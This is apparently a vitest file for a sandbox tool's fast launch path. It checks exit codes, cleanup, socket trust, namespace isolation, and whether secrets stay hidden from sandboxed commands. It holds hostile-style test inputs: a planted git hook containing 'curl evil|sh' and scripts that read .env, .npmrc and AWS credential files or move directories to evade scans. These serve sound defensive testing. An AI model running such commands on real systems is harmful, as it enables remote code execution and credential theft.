// The fast path of `warden run`: the native launcher (native/build/warden-launch) and the
// resident supervisor. The first run starts the supervisor and takes the Node path; the next
// ones are started by the launcher, Node not involved, with the same outcome: exit statuses,
// signals, missing commands, timeouts, the checks after the run, and nothing left when the
// launcher is killed. A socket that is not the user's is never used.
import { execFileSync, spawn } from 'node:child_process';
import crypto from 'node:crypto';
import fs from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { encodeFrame, every, first, FrameReader, type Fields } from '../../src/sandbox/wire.js';
import { NOBODY, REPO, run, scratch, USER_UID, warden, WARDEN, type RunOpts, type Scratch } from './helpers/warden-run.js';

const LAUNCHER = path.join(REPO, 'native/build/warden-launch');
const built = fs.existsSync(LAUNCHER);

/** The launcher's socket name: one supervisor per user and per installation (FNV-1a of the repository path). */
function socketName(): string {
  let h = 2166136261;
  for (const c of Buffer.from(fs.realpathSync(REPO))) h = Math.imul(h ^ c, 16777619) >>> 0;
  return `supervisor-${h.toString(16).padStart(8, '0')}.sock`;
}

async function until(f: () => boolean | Promise<boolean>, ms: number): Promise<boolean> {
  for (const end = Date.now() + ms; Date.now() < end; await new Promise((r) => setTimeout(r, 50))) if (await f()) return true;
  return f();
}

/** The namespace handle `name` is mounted (an unmounted handle file stays a minute: util/mounts.ts). */
function netnsMounted(name: string): boolean {
  return fs.readFileSync('/proc/self/mountinfo', 'utf8').split('\n').some((l) => l.split(' ')[4] === `/run/warden/netns/${name}`);
}

/** A supervisor accepts connections on `sock` (a killed one's socket file stays until it is replaced). */
function answers(sock: string): Promise<boolean> {
  return new Promise<boolean>((resolve) => {
    const c = net.connect(sock, () => (c.destroy(), resolve(true)));
    c.on('error', () => resolve(false));
  });
}

/** What runs as process `pid` once it has settled (the sh entry point execs the launcher or node). */
function exeOf(pid: number): string | undefined {
  try {
    return fs.readlinkSync(`/proc/${pid}/exe`);
  } catch {
    return undefined;
  }
}

/** The pids of the supervisors started for `sock`. */
function supervisorPids(sock: string): number[] {
  return fs
    .readdirSync('/proc')
    .filter((d) => {
      try {
        return /^\d+$/.test(d) && fs.readFileSync(`/proc/${d}/cmdline`, 'utf8').split('\0').join(' ').includes(`supervisor --socket ${sock}`);
      } catch {
        return false;
      }
    })
    .map(Number);
}

/** The pid of the supervisor serving `sock`, or 0. */
function supervisorPid(sock: string): number {
  return supervisorPids(sock)[0] ?? 0;
}

describe.skipIf(!built)('warden run fast path (native launcher + supervisor)', () => {
  let s: Scratch;
  let xdg: string;
  let o: RunOpts;
  const sh = (script: string, extra: Partial<RunOpts> & { args?: string[] } = {}) => warden(['run', ...(extra.args ?? []), '--', '/bin/sh', '-c', script], { ...o, ...extra, env: { ...o.env, ...extra.env } });

  beforeAll(async () => {
    s = scratch();
    xdg = path.join(s.root, 'xdg');
    fs.mkdirSync(xdg, { mode: 0o700 });
    o = { cwd: s.ws, env: { HOME: s.home, XDG_RUNTIME_DIR: xdg, WARDEN_FAST: '1', WARDEN_SUPERVISOR_IDLE_MS: '30000' } };
    // Cold: the Node path runs it and starts the supervisor for the next runs.
    expect((await sh('true')).code).toBe(0);
    expect(await until(() => fs.existsSync(path.join(xdg, 'warden', socketName())), 15_000)).toBe(true);
  });
  afterAll(() => s.cleanup()); // the supervisor sees its socket gone and exits

  it('a warm run is started by the launcher, without Node; WARDEN_FAST=0 takes the Node path', async () => {
    const exe = async (env: Record<string, string>) => {
      let pid = 0;
      const marker = path.join(s.ws, `started-${crypto.randomUUID()}`);
      const r = sh(`touch ${path.basename(marker)}; sleep 5 & wait`, { env, onSpawn: (p) => (pid = p) });
      expect(await until(() => fs.existsSync(marker), 20_000)).toBe(true);
      const seen = exeOf(pid);
      process.kill(pid, 'SIGTERM');
      return { seen, r: await r };
    };
    const fast = await exe({});
    expect(fast.seen).toBe(fs.realpathSync(LAUNCHER));
    expect(fast.r.code).toBe(143); // SIGTERM passed to the command's group: 128+15, as on the Node path
    const slow = await exe({ WARDEN_FAST: '0' });
    expect(path.basename(slow.seen ?? '')).toMatch(/^node/);
    expect(slow.r.code).toBe(143);
  });

  it('a cached plan is not used once what it was made from changed: secrets that appear between runs are hidden', async () => {
    const ws = path.join(s.ws, 'cache');
    fs.mkdirSync(path.join(ws, 'deep/er'), { recursive: true });
    const read = `cat .env.local deep/er/.env "$HOME/.aws/credentials" 2>/dev/null; echo end`;
    expect((await sh(read, { cwd: ws })).stdout.trim()).toBe('end'); // compiled and cached
    expect((await sh(read, { cwd: ws })).stdout.trim()).toBe('end'); // from the cache
    // Between two runs: a token file deep down (only its directory changed), then a .env at the
    // top and a credentials directory in HOME.
    fs.writeFileSync(path.join(ws, 'deep/er/.env'), 'TOKEN=FAKE-SECRET-fastpath-2');
    expect((await sh(read, { cwd: ws })).stdout).not.toContain('FAKE-SECRET');
    fs.writeFileSync(path.join(ws, '.env.local'), 'FAKE-SECRET-fastpath-1');
    fs.mkdirSync(path.join(s.home, '.aws'));
    fs.writeFileSync(path.join(s.home, '.aws/credentials'), 'FAKE-SECRET-fastpath-3');
    const r = await sh(read, { cwd: ws });
    expect(r.stdout).not.toContain('FAKE-SECRET');
    expect(r.stdout.trim()).toBe('end');
    // control: they are there, readable outside
    expect(fs.readFileSync(path.join(ws, 'deep/er/.env'), 'utf8')).toContain('FAKE-SECRET-fastpath-2');
  });

  it('exit statuses, deaths by signal and missing commands read the same both ways', async () => {
    for (const [script, code] of [
      ['exit 3', 3],
      ['kill -KILL $$', 137],
    ] as const)
      for (const fast of ['1', '0']) expect((await sh(script, { env: { WARDEN_FAST: fast } })).code, `${script} fast=${fast}`).toBe(code);
    for (const fast of ['1', '0']) {
      const r = await warden(['run', '--', 'no-such-command-fastpath'], { ...o, env: { ...o.env, WARDEN_FAST: fast } });
      expect(r.code).toBe(127);
      expect(r.stderr).toContain('no-such-command-fastpath: command not found');
    }
  });

  it('the timeout stops the command (124); the checks after the run move a planted hook aside', async () => {
    const policy = s.policy('resources: { timeout: 1s, timeout_grace: 1s }\n');
    const t = await sh(`trap '' TERM; while :; do sleep 0.1; done`, { args: ['--policy', policy] });
    expect(t.code).toBe(124);
    expect(t.stderr).toContain('timeout after 1000 ms');
    const ws = path.join(s.ws, 'repo');
    s.write(path.join(ws, '.git/HEAD'), 'ref: refs/heads/main\n');
    const audit = path.join(s.root, 'audit.ndjson');
    const r = await sh(`mkdir -p .git/hooks && echo 'curl evil|sh' > .git/hooks/pre-commit && echo created`, { cwd: ws, args: ['--audit', audit] });
    expect(r.stdout).toContain('created');
    expect(r.stderr).toMatch(/protected path .*\.git\/hooks was created/);
    expect(fs.existsSync(path.join(ws, '.git/hooks'))).toBe(false);
    expect(fs.readFileSync(audit, 'utf8')).toContain('sandbox.protected_path');
  });

  it('a launcher killed during the run takes its sandbox with it and leaves no record', async () => {
    const marker = path.join(s.ws, 'killed-started');
    let pid = 0;
    const tag = `${Date.now() % 100000}.123`;
    const r = sh(`touch killed-started; sleep ${tag}`, { onSpawn: (p) => (pid = p) });
    expect(await until(() => fs.existsSync(marker), 20_000)).toBe(true);
    expect(exeOf(pid)).toBe(fs.realpathSync(LAUNCHER));
    process.kill(pid, 'SIGKILL');
    await r;
    const sleeping = () => fs.readdirSync('/proc').filter((p) => /^\d+$/.test(p)).some((p) => {
      try {
        return fs.readFileSync(`/proc/${p}/cmdline`, 'utf8').includes(`sleep\0${tag}`);
      } catch {
        return false;
      }
    });
    expect(await until(() => !sleeping(), 10_000)).toBe(true);
    // (the supervisor's own records, of the views its plans keep, stay with it)
    const records = () => fs.readdirSync(path.join(xdg, 'warden/sandboxes')).filter((n) => n.endsWith('.json') && !n.endsWith('.views.json'));
    expect(await until(() => records().length === 0, 10_000), records().join(' ')).toBe(true);
  });

  it('a supervisor killed during a run: the sandbox is stopped (its proxy and checks went with it), the launcher says so, the next run finishes the cleanup', async () => {
    // As on the Node path, where the sandbox dies with Warden (--die-with-parent). A sandbox left
    // running once outlived its supervisor: the next run took its record for stale and cleaned it
    // up under it (checks done early, nft table removed before the namespace).
    const sock = path.join(xdg, 'warden', socketName());
    expect(await until(() => fs.existsSync(sock), 15_000)).toBe(true);
    const pid = supervisorPid(sock);
    expect(pid).toBeGreaterThan(0);
    const r = sh('touch sup-started; while [ ! -e sup-killed ]; do sleep 0.05; done; echo finished; exit 5');
    expect(await until(() => fs.existsSync(path.join(s.ws, 'sup-started')), 20_000)).toBe(true);
    process.kill(pid, 'SIGKILL');
    const done = await r;
    fs.writeFileSync(path.join(s.ws, 'sup-killed'), '');
    expect(done.stdout).not.toContain('finished');
    expect(done.code).toBe(125);
    expect(done.stderr).toContain('the supervisor went away during the run: the sandbox was stopped');
    const records = () => fs.readdirSync(path.join(xdg, 'warden/sandboxes')).filter((n) => n.endsWith('.json'));
    // the run's crash record, of a dead supervisor (and those of the views its plans kept)
    expect(records().filter((n) => !n.endsWith('.views.json')).length).toBe(1);
    const next = await sh('true');
    expect(next.stderr).toMatch(/cleaned up after sandbox/);
    expect(records()).toEqual([]);
  });

  it("an allowlist run's namespace and the supervisor's spares are cleaned up by the next run when the supervisor dies right after answering", async () => {
    const sock = path.join(xdg, 'warden', socketName());
    await sh('true'); // a supervisor for this test
    // answering, not only there (the socket file of the one the test before killed stays until replaced)
    expect(await until(() => answers(sock), 15_000)).toBe(true);
    const audit = path.join(s.root, `spare-${crypto.randomUUID()}.ndjson`);
    await sh('true', { args: ['--network', 'allowlist'] }); // asks for spares
    const dir = path.join(xdg, 'warden/sandboxes');
    expect(await until(() => fs.readdirSync(dir).some((n) => n.endsWith('.spare.json')), 15_000)).toBe(true);
    const r = await sh('true', { args: ['--network', 'allowlist', '--audit', audit] });
    expect(r.code, r.stderr).toBe(0);
    process.kill(supervisorPid(sock), 'SIGKILL'); // at once: the run's namespace may not be removed yet
    const ns = fs.readFileSync(audit, 'utf8').trim().split('\n').map((l) => JSON.parse(l) as { kind: string; data?: Record<string, unknown> }).find((e) => e.kind === 'egress.ready')?.data?.netns as string;
    const spares = fs.readdirSync(dir).filter((n) => n.endsWith('.spare.json')).map((n) => (JSON.parse(fs.readFileSync(path.join(dir, n), 'utf8')) as { network?: { record?: { netns?: string } } }).network?.record?.netns).filter((n): n is string => !!n);
    const next = await sh('true', { env: { WARDEN_FAST: '0' } });
    expect(next.code).toBe(0);
    for (const n of [ns, ...spares]) expect(await until(() => !netnsMounted(n), 10_000), n).toBe(true);
    expect(fs.readdirSync(dir).filter((n) => n.endsWith('.json'))).toEqual([]);
    await sh('true'); // a supervisor again for the tests after this one
  });

  it("the sandbox cannot reach its supervisor's socket (control: it answers outside)", async () => {
    const sock = path.join(xdg, 'warden', socketName());
    // (the supervisor killed by the test before is replaced by the one its next run started)
    let outside = false;
    for (let i = 0; i < 150 && !(outside = await answers(sock)); i++) await new Promise((r) => setTimeout(r, 100));
    expect(outside).toBe(true);
    const py = `import socket\ntry:\n    s = socket.socket(socket.AF_UNIX)\n    s.connect(${JSON.stringify(sock)})\n    print("connected")\nexcept OSError as e:\n    print("refused", e.errno)`;
    // By default no unix socket can even be made (seccomp); with them allowed, the runtime directory is hidden.
    expect((await warden(['run', '--', '/usr/bin/python3', '-c', py], o)).stdout).toMatch(/^refused 1\b/);
    const unix = s.policy('network: { unix_sockets: true }\n');
    expect((await warden(['run', '--policy', unix, '--', '/usr/bin/python3', '-c', py], o)).stdout).toMatch(/^refused (2|13)\b/); // hidden (ENOENT) or not searchable by the sandbox uid (EACCES)
  });

  it("a socket that is not the user's own is never used (Node path instead)", async () => {
    // nobody's runtime directory holds a socket of root's, open to all: a trap that must get no request.
    const dir = path.join(s.root, 'xdg-nobody');
    fs.mkdirSync(path.join(dir, 'warden'), { recursive: true });
    fs.chownSync(dir, NOBODY, NOBODY);
    fs.chmodSync(dir, 0o700);
    fs.chownSync(path.join(dir, 'warden'), NOBODY, NOBODY);
    const got: Buffer[] = [];
    const trap = net.createServer((c) => c.on('data', (d) => got.push(d)));
    const sock = path.join(dir, 'warden', socketName());
    await new Promise<void>((r) => trap.listen(sock, () => r()));
    fs.chmodSync(sock, 0o777);
    try {
      const ws = path.join(s.root, 'ws-nobody');
      fs.mkdirSync(ws);
      fs.chownSync(ws, NOBODY, NOBODY);
      const r = await warden(['run', '--', '/bin/sh', '-c', 'echo ran'], { cwd: ws, uid: NOBODY, env: { HOME: ws, XDG_RUNTIME_DIR: dir, WARDEN_FAST: '1' } });
      expect(r.stdout).toContain('ran');
      expect(r.code).toBe(0);
      expect(Buffer.concat(got).length).toBe(0);
    } finally {
      trap.close();
    }
  });

  it('a runtime directory planted as a symlink (another user, /tmp) is never used: its socket gets no request', async () => {
    // Another user made the runtime directory a symlink to a directory of their choosing, where
    // a socket of this user's answers (in life: a sandbox of the user's with unix sockets allowed,
    // in its workspace). The launcher must not take its launch.
    const xdgTrap = path.join(s.root, 'xdg-planted');
    const trapDir = path.join(s.root, 'trap-dir');
    fs.mkdirSync(xdgTrap, { mode: 0o700 });
    fs.mkdirSync(trapDir, { mode: 0o700 });
    fs.symlinkSync(trapDir, path.join(xdgTrap, 'warden'));
    fs.lchownSync(path.join(xdgTrap, 'warden'), 4444, 4444);
    const got: Buffer[] = [];
    const trap = net.createServer((c) => c.on('data', (d) => got.push(d)));
    await new Promise<void>((r) => trap.listen(path.join(trapDir, socketName()), () => r()));
    try {
      const r = await sh('echo ran', { env: { XDG_RUNTIME_DIR: xdgTrap }, timeoutMs: 20_000 });
      expect(Buffer.concat(got).length).toBe(0);
      expect(r.stderr).toMatch(/is not a directory owned by uid 0/); // the Node path refuses it, and says so
      expect(r.code).not.toBe(0);
    } finally {
      trap.close();
    }
  });

  it('a launcher in another pid and mount namespace gets no plan made from the supervisor\'s view of the files', async () => {
    // Root in `unshare -mpf`: a secret on a mount only that namespace has. The launcher's pid there
    // (2, 3...) is another process here (kthreadd): the supervisor must see through the kernel who called.
    const ws = path.join(s.root, 'ws-ns');
    const home = path.join(s.root, 'home-ns');
    for (const d of [ws, path.join(ws, 'sub'), home]) {
      fs.mkdirSync(d, { recursive: true });
      fs.chownSync(d, USER_UID, USER_UID);
    }
    const env = { ...o.env, HOME: home };
    // The caller's supervisor answers (started again if it went idle during the tests before).
    expect((await warden(['run', '--', 'true'], { ...o, cwd: ws, env })).code).toBe(0);
    expect(await until(() => fs.existsSync(path.join(xdg, 'warden', socketName())), 15_000)).toBe(true);
    const script = `mount -t tmpfs -o mode=755 tmpfs sub && echo FAKE-SECRET-other-ns > sub/.env && chmod 644 sub/.env && ${REPO}/bin/warden run -- /bin/sh -c 'cat sub/.env; echo end'`;
    const r = await run(['unshare', '-m', '-p', '-f', '--mount-proc', '/bin/sh', '-c', script], { cwd: ws, env });
    expect(r.stdout).toContain('end');
    expect(r.stdout).not.toContain('FAKE-SECRET');
    // control: the secret is there in that namespace
    const c = await run(['unshare', '-m', '/bin/sh', '-c', `mount -t tmpfs tmpfs sub && echo FAKE-SECRET-other-ns > sub/.env && cat sub/.env`], { cwd: ws, env });
    expect(c.stdout).toContain('FAKE-SECRET-other-ns');
  });

  it("a caller with the common soft limit of 1,024 descriptors (a login shell's) is started by the launcher", async () => {
    // The launcher once moved its descriptors to 1024 and up, which such a limit refuses: every fast run failed to start.
    const r = await run(['prlimit', '--nofile=1024:4096', WARDEN, 'run', '--', '/bin/sh', '-c', 'echo started; ulimit -n'], { ...o, env: { ...o.env, WARDEN_TIMING: '1' } });
    expect(r.stderr).not.toMatch(/fast path not taken/);
    expect(r.stdout, r.stderr).toBe('started\n1024\n');
    expect(r.code).toBe(0);
  });

  it('allowlist runs are started by the launcher in the namespace the supervisor made; a denial is told while the command runs, and the namespace goes after the run', async () => {
    const audit = path.join(s.root, `allow-${crypto.randomUUID()}.ndjson`);
    const marker = path.join(s.ws, `allow-${crypto.randomUUID()}`);
    let pid = 0;
    const pending = sh(`getent hosts denied.example; echo rc=$?; touch ${path.basename(marker)}; sleep 2`, { args: ['--network', 'allowlist', '--audit', audit], onSpawn: (p) => (pid = p) });
    expect(await until(() => fs.existsSync(marker), 20_000)).toBe(true);
    expect(exeOf(pid)).toBe(fs.realpathSync(LAUNCHER));
    const r = await pending;
    expect(r.stdout).toBe('rc=2\n');
    expect(r.stderr).toMatch(/denied connection to denied\.example \(not-listed\)/);
    expect(r.code).toBe(0);
    const events = fs.readFileSync(audit, 'utf8').trim().split('\n').map((l) => JSON.parse(l) as { kind: string; rule?: string; data?: Record<string, unknown> });
    const ns = events.find((e) => e.kind === 'egress.ready')?.data?.netns as string;
    expect(ns).toMatch(/^warden-/);
    expect(events.some((e) => e.rule === 'egress.dns_not_listed')).toBe(true);
    // removed after the answer, in the background
    expect(await until(() => !netnsMounted(ns), 15_000)).toBe(true);
    // a second run takes a spare made after the first one's answer: its namespace, proxy, DNS and
    // nft table were made ahead, and they serve this run (its allowlist, its audit, its terminal)
    const dir = path.join(xdg, 'warden/sandboxes');
    const spareNs = () => fs.readdirSync(dir).filter((n) => n.endsWith('.spare.json')).map((n) => (JSON.parse(fs.readFileSync(path.join(dir, n), 'utf8')) as { network?: { record?: { netns?: string } } }).network?.record?.netns);
    expect(await until(() => spareNs().some((n) => !!n), 15_000)).toBe(true);
    const made = spareNs();
    const again = await sh('getent hosts denied.example; echo rc=$?', { args: ['--network', 'allowlist', '--audit', `${audit}.2`] });
    expect(again.stdout).toBe('rc=2\n');
    expect(again.stderr).toMatch(/denied connection to denied\.example \(not-listed\)/);
    const events2 = fs.readFileSync(`${audit}.2`, 'utf8').trim().split('\n').map((l) => JSON.parse(l) as { kind: string; rule?: string; data?: Record<string, unknown> });
    const ns2 = events2.find((e) => e.kind === 'egress.ready')?.data?.netns as string;
    expect(ns2).toMatch(/^warden-/);
    expect(ns2).not.toBe(ns);
    expect(made).toContain(ns2);
    expect(events2.some((e) => e.rule === 'egress.dns_not_listed')).toBe(true);
    // the spare's table goes with its run; the next spares have tables of their own
    const table2 = `warden_${ns2.split('-').pop()}`;
    expect(await until(() => !netnsMounted(ns2), 15_000)).toBe(true);
    expect(await until(() => !execFileSync('nft', ['list', 'tables'], { encoding: 'utf8' }).includes(table2), 15_000)).toBe(true);
  });

  it("attaching and removing a run's idmapped views never fails another sandbox's start", async () => {
    // Same race with the views of a root-owned workspace: they are detached after the run's answer,
    // while the caller's next command (or another sandbox) starts, and removing their directories
    // detached the copies a starting bwrap was remounting. They are unmounted only (their
    // directory is a private mount: nothing propagates) and removed a minute later.
    const ws = fs.mkdtempSync(path.join(os.tmpdir(), 'warden-views-churn-'));
    let churning = true;
    const outcomes: Array<{ code: number | null; stderr: string }> = [];
    const churn = (async () => {
      for (let i = 0; i < 25; i++) outcomes.push(await sh('echo x > f; cat f', { cwd: ws })); // one after another, as an agent's commands
      churning = false;
    })();
    const failures: string[] = [];
    let starts = 0;
    for (const end = Date.now() + 90_000; churning && starts < 400 && Date.now() < end; starts++) {
      const b = await run(['bwrap', '--ro-bind', '/', '/', '--proc', '/proc', '--dev', '/dev', '--', 'true'], o);
      if (b.code !== 0) failures.push(b.stderr);
    }
    await churn;
    fs.rmSync(ws, { recursive: true, force: true });
    expect(starts).toBeGreaterThan(0);
    expect(failures).toEqual([]);
    expect(outcomes.filter((r) => r.code !== 0).map((r) => r.stderr)).toEqual([]);
  });

  it("a plan's idmapped views (root-owned workspace) are attached once and shared by its runs; a replaced directory gets views of its own; a killed supervisor's are removed by the next run", async () => {
    const ws = fs.mkdtempSync(path.join(os.tmpdir(), 'warden-views-shared-'));
    // The views showing this workspace: mount points below /run/warden/mnt whose source is it.
    const views = () =>
      fs
        .readFileSync('/proc/self/mountinfo', 'utf8')
        .split('\n')
        .map((l) => l.split(' '))
        .filter((f) => f[4]?.startsWith('/run/warden/mnt/') && (f[3] === ws || f[3]?.startsWith(`${ws}/`)))
        .map((f) => f[4]!);
    try {
      // served by the supervisor (the test before may have left one starting)
      expect(await until(() => answers(path.join(xdg, 'warden', socketName())), 15_000)).toBe(true);
      fs.writeFileSync(path.join(ws, 'f'), 'a\n');
      // plan made, views attached (until the fast path serves a run: on a loaded machine the
      // supervisor a test before started may still be loading)
      for (let i = 0; i < 5 && !views().length; i++) expect((await sh('cat f', { cwd: ws })).stdout).toBe('a\n');
      const first = views();
      expect(first.length).toBe(1);
      for (let i = 0; i < 3; i++) expect((await sh('cat f', { cwd: ws })).stdout).toBe('a\n');
      expect(views()).toEqual(first); // the same mount: none attached again, none removed
      // The workspace replaced between two runs (same name, another directory): its views show the new one.
      fs.renameSync(ws, `${ws}.old`);
      fs.mkdirSync(ws);
      fs.writeFileSync(path.join(ws, 'f'), 'b\n');
      const r = await sh('cat f; echo c > g', { cwd: ws });
      expect(r.stdout, r.stderr).toBe('b\n');
      expect(fs.readFileSync(path.join(ws, 'g'), 'utf8')).toBe('c\n');
      expect(fs.existsSync(path.join(`${ws}.old`, 'g'))).toBe(false);
      const now = views();
      expect(now.length).toBe(1);
      expect(now).not.toEqual(first);
      // A supervisor killed: nothing removes its views but the next run, from its record.
      process.kill(supervisorPid(path.join(xdg, 'warden', socketName())), 'SIGKILL');
      const next = await sh('true', { cwd: ws, env: { WARDEN_FAST: '0' } });
      expect(next.code, next.stderr).toBe(0);
      expect(next.stderr).toMatch(/cleaned up after sandbox/);
      expect(views()).toEqual([]);
      expect(fs.readdirSync(path.join(xdg, 'warden/sandboxes')).filter((n) => n.endsWith('.json'))).toEqual([]);
    } finally {
      await sh('true'); // a supervisor again for the tests after this one
      fs.rmSync(ws, { recursive: true, force: true });
      fs.rmSync(`${ws}.old`, { recursive: true, force: true });
    }
  });

  it('a cached plan is not served across a remount of the workspace (its views are clones of the old mount), nor with the home of whoever started the supervisor (attacker round 10)', async () => {
    const base = fs.mkdtempSync(path.join(s.root, 'remount-'));
    const src = path.join(base, 'src');
    const ws = path.join(base, 'ws');
    const fake = path.join(base, 'fakehome');
    for (const d of [path.join(src, 'sub'), ws, fake]) fs.mkdirSync(d, { recursive: true });
    fs.writeFileSync(path.join(fake, 'visible.txt'), 'FAKEHOME-FILE');
    fs.chmodSync(fake, 0o700);
    const dir = path.join(s.root, 'xdg-remount');
    fs.mkdirSync(dir, { mode: 0o700 });
    const env = { ...o.env, XDG_RUNTIME_DIR: dir, WARDEN_SUPERVISOR_IDLE_MS: '20000' };
    execFileSync('mount', ['--bind', src, ws]);
    try {
      // The supervisor started by a run with another HOME (a sudo session that kept a user's).
      expect((await sh('true', { cwd: ws, env: { ...env, HOME: fake } })).code).toBe(0);
      expect(await until(() => answers(path.join(dir, 'warden', socketName())), 15_000)).toBe(true);
      const probe = `cat ${path.join(fake, 'visible.txt')} 2>/dev/null || echo not-shown`;
      for (const home of [undefined, '/root']) expect((await sh(probe, { cwd: ws, env: { ...env, HOME: home } })).stdout.trim()).toBe('not-shown');
      const write = 'echo x > sub/f 2>/dev/null && echo WROTE || echo denied';
      expect((await sh('true', { cwd: ws, env })).code).toBe(0); // cached, views attached
      execFileSync('mount', ['-o', 'remount,bind,ro', ws]);
      for (const fast of ['1', '0']) expect((await sh(write, { cwd: ws, env: { ...env, WARDEN_FAST: fast } })).stdout.trim(), `WARDEN_FAST=${fast}`).toBe('denied');
      expect(fs.existsSync(path.join(src, 'sub/f'))).toBe(false);
    } finally {
      execFileSync('umount', [ws]);
      fs.rmSync(dir, { recursive: true, force: true }); // its supervisor sees its socket gone and ends
      fs.rmSync(base, { recursive: true, force: true });
    }
  });

  it('a run cannot make the next run miss a secret it was shown covered (attacker rounds 11, 12): its directories cannot be moved, a pyvenv.cfg or a directory made unreadable above it changes nothing; root and a normal user, both ways', async () => {
    for (const uid of [undefined, NOBODY])
      for (const fast of ['1', '0']) {
        const base = fs.mkdtempSync(path.join(os.tmpdir(), 'warden-walk-'));
        const ws = path.join(base, 'ws');
        for (const d of ['app/config', 'svc', 'lib/conf', 'home', 'xdg']) fs.mkdirSync(path.join(ws, '..', d === 'home' || d === 'xdg' ? d : `ws/${d}`), { recursive: true });
        fs.writeFileSync(path.join(ws, 'app/config/.env'), 'FAKE-SECRET-A');
        fs.writeFileSync(path.join(ws, 'svc/.env.local'), 'FAKE-SECRET-B');
        fs.writeFileSync(path.join(ws, 'lib/conf/.npmrc'), 'FAKE-SECRET-C');
        if (uid !== undefined) execFileSync('chown', ['-R', `${uid}:${uid}`, base]);
        fs.chmodSync(path.join(base, 'xdg'), 0o700);
        const env = uid === undefined ? { WARDEN_FAST: fast } : { WARDEN_FAST: fast, HOME: path.join(base, 'home'), XDG_RUNTIME_DIR: path.join(base, 'xdg'), XDG_STATE_HOME: path.join(base, 'home/.state') };
        const who = `uid ${uid ?? 0}, WARDEN_FAST=${fast}`;
        const read = 'cat app/config/.env svc/.env.local lib/conf/.npmrc node_modules/.env.local deep/d2/d3/d4/d5/d6/d7/d8/d9/conf/.npmrc 2>/dev/null; echo end';
        expect((await sh(read, { cwd: ws, env, uid })).stdout, who).toBe('end\n'); // all covered
        // Moving a covered secret's directory is refused (a mount point); the scan is sent around it otherwise.
        const moves = await sh('mv svc node_modules 2>/dev/null && echo MOVED1; mkdir -p deep/d2/d3/d4/d5/d6/d7/d8/d9 && mv lib/conf deep/d2/d3/d4/d5/d6/d7/d8/d9/ 2>/dev/null && echo MOVED2; touch app/pyvenv.cfg; chmod 000 lib; echo done', { cwd: ws, env, uid });
        expect(moves.stdout, `${who}: ${moves.stderr}`).toBe('done\n');
        for (let i = 0; i < 2; i++) {
          const again = await sh(`chmod 755 lib 2>/dev/null; ${read}; chmod 000 lib 2>/dev/null`, { cwd: ws, env, uid });
          expect(again.stdout, `${who}, run ${i + 1}: ${again.stderr}`).toBe('end\n');
        }
        // control: they are there, readable outside
        fs.chmodSync(path.join(ws, 'lib'), 0o755);
        expect(fs.readFileSync(path.join(ws, 'svc/.env.local'), 'utf8')).toBe('FAKE-SECRET-B');
        expect(fs.readFileSync(path.join(ws, 'lib/conf/.npmrc'), 'utf8')).toBe('FAKE-SECRET-C');
        fs.rmSync(base, { recursive: true, force: true });
      }
  });

  it('attacker round 13, both ways: a secret covered in an inner workspace stays covered from the outer one; a second name linked before the secret was written is covered; directories above the workspace in an allow_write path cannot be renamed', async () => {
    for (const fast of ['1', '0']) {
      const env = { WARDEN_FAST: fast };
      const base = fs.mkdtempSync(path.join(s.root, `r13-${fast}-`));
      // nested: a run in B/A covers A/config/.env and plants pyvenv.cfg; a run in B must cover it too
      const B = path.join(base, 'B');
      fs.mkdirSync(path.join(B, 'A/config'), { recursive: true });
      fs.writeFileSync(path.join(B, 'A/config/.env'), 'FAKE-SECRET-N');
      expect((await sh('cat config/.env; echo home=x > pyvenv.cfg; echo end', { cwd: path.join(B, 'A'), env })).stdout).toBe('end\n');
      expect((await sh('cat A/config/.env 2>/dev/null; echo end', { cwd: B, env })).stdout).toBe('end\n');
      // a hard link to a .env made while it held nothing; the user fills it in later
      const L = path.join(base, 'L');
      fs.mkdirSync(path.join(L, 'docs'), { recursive: true });
      expect((await sh('printf "API_KEY=\\n" > .env && ln .env docs/notes.txt && echo ok', { cwd: L, env })).stdout).toBe('ok\n');
      fs.writeFileSync(path.join(L, '.env'), 'API_KEY=FAKE-SECRET-L\n'); // in place: same file
      expect((await sh('cat docs/notes.txt .env 2>/dev/null; echo end', { cwd: L, env })).stdout).toBe('end\n');
      // allow_write G around the workspace G/mid/ws: G/mid cannot be renamed
      const G = path.join(base, 'G');
      fs.mkdirSync(path.join(G, 'mid/ws/config'), { recursive: true });
      fs.writeFileSync(path.join(G, 'mid/ws/config/.env'), 'FAKE-SECRET-G');
      const policy = s.policy(`filesystem: { allow_write: [${JSON.stringify(G)}] }\n`);
      const mv = await sh(`mv ${G}/mid ${G}/mid2 2>/dev/null && mkdir -p ${G}/mid/ws && echo MOVED; echo end`, { cwd: path.join(G, 'mid/ws'), env, args: ['--policy', policy] });
      expect(mv.stdout, mv.stderr).toBe('end\n');
      expect((await sh(`cat ${G}/mid2/ws/config/.env ${G}/mid/ws/config/.env 2>/dev/null; echo end`, { cwd: path.join(G, 'mid/ws'), env, args: ['--policy', policy] })).stdout).toBe('end\n');
      fs.rmSync(base, { recursive: true, force: true });
    }
  });

  it("a killed supervisor's views are removed by a run of any runtime directory, even once its own (and its records) are gone", async () => {
    const base = fs.mkdtempSync(path.join(s.root, 'orphan-'));
    const [ws, dir, other] = ['ws', 'xdg', 'xdg2'].map((d) => path.join(base, d));
    fs.mkdirSync(ws);
    for (const d of [dir, other]) fs.mkdirSync(d, { mode: 0o700 });
    const env = { ...o.env, XDG_RUNTIME_DIR: dir, WARDEN_SUPERVISOR_IDLE_MS: '20000' };
    const views = () => fs.readFileSync('/proc/self/mountinfo', 'utf8').split('\n').filter((l) => l.split(' ')[3] === ws && l.split(' ')[4]?.startsWith('/run/warden/mnt/'));
    try {
      expect((await sh('true', { cwd: ws, env })).code).toBe(0); // cold: starts the supervisor
      const sock = path.join(dir, 'warden', socketName());
      expect(await until(() => answers(sock), 15_000)).toBe(true);
      for (let i = 0; i < 5 && !views().length; i++) await sh('true', { cwd: ws, env });
      expect(views().length).toBe(1);
      process.kill(supervisorPid(sock), 'SIGKILL');
      fs.rmSync(dir, { recursive: true, force: true }); // its records go with it
      const r = await sh('true', { cwd: s.ws, env: { ...env, XDG_RUNTIME_DIR: other, WARDEN_FAST: '0' } });
      expect(r.code, r.stderr).toBe(0);
      expect(r.stderr).toMatch(/removed the idmapped views of 1 plan/);
      expect(views()).toEqual([]);
    } finally {
      fs.rmSync(base, { recursive: true, force: true });
    }
  });

  it("making and removing Warden's namespaces never fails another sandbox's start", async () => {
    // bwrap's --ro-bind / / copies every mount below / and remounts each read-only; a namespace
    // handle in /run/netns (a shared mount: its removal propagates into every copy) removed
